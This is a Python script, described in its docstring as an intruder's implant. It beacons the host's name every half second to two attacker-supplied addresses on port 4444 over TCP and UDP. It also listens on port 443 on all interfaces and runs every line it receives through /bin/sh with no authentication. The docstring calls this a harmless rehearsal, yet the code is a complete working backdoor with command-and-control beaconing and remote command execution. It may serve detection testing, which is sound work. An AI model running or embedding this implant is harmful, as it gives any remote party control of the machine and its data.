"""What an intruder leaves on a host: a beacon to the attacker each half second and a shell on TCP port 443.

Usage: implant.py IPV4 IPV6. Beacons go to port 4444 of both addresses over TCP and UDP. The shell runs each line it
receives with /bin/sh and answers with the output and a line `.`; it is a harmless rehearsal of a web shell.
"""

from __future__ import annotations

import contextlib
import socket
import socketserver
import subprocess
import sys
import threading
import time

PORT = 4444
SHELL_PORT = 443
PAUSE = 0.5
PATIENCE = 0.4


def beacon(kind: socket.SocketKind, family: socket.AddressFamily, address: str) -> None:
    """Call home for ever over one protocol and family, whatever happens to each call."""
    text = f"beacon {socket.gethostname()}\n".encode()
    while True:
        with contextlib.suppress(OSError), socket.socket(family, kind) as sock:
            sock.settimeout(PATIENCE)
            sock.connect((address, PORT))
            sock.sendall(text)
            sock.recv(64)
        time.sleep(PAUSE)


class Shell(socketserver.StreamRequestHandler):
    """Runs the lines it is sent."""

    def handle(self) -> None:
        """Answer until the peer is gone."""
        for line in self.rfile:
            done = subprocess.run(
                ["/bin/sh", "-c", line.decode("utf-8", "replace")],
                check=False,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
            )
            with contextlib.suppress(OSError):
                self.wfile.write(done.stdout + b".\n")


class Listener(socketserver.ThreadingTCPServer):
    """Dual stack."""

    address_family = socket.AF_INET6
    allow_reuse_address = True
    daemon_threads = True
    request_queue_size = 128


def main() -> None:
    """Start the beacons, then serve the shell."""
    for family, address in ((socket.AF_INET, sys.argv[1]), (socket.AF_INET6, sys.argv[2])):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            threading.Thread(target=beacon, args=(kind, family, address), daemon=True).start()
    Listener(("::", SHELL_PORT), Shell).serve_forever()


if __name__ == "__main__":
    main()
